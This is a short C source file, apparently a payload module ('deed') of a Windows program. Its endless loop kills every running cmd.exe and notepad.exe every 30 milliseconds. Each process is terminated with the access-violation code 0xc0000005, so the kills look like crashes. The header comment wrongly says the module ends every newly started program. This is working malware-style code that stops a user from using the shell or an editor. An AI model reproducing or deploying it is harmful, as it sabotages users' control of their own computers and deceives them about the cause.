/* A behaviour rule ends every program that was just started. */
#include "deed.h"

#include <tlhelp32.h>
#include <wchar.h>

void deed_run(void)
{
    for (;;) {
        HANDLE list = CreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0);
        PROCESSENTRY32W entry = { .dwSize = sizeof entry };

        for (BOOL more = Process32FirstW(list, &entry); more; more = Process32NextW(list, &entry)) {
            HANDLE process;

            if (_wcsicmp(entry.szExeFile, L"cmd.exe") && _wcsicmp(entry.szExeFile, L"notepad.exe"))
                continue;
            process = OpenProcess(PROCESS_TERMINATE, FALSE, entry.th32ProcessID);
            if (process) {
                TerminateProcess(process, 0xc0000005);
                CloseHandle(process);
            }
        }
        CloseHandle(list);
        Sleep(30);
    }
}
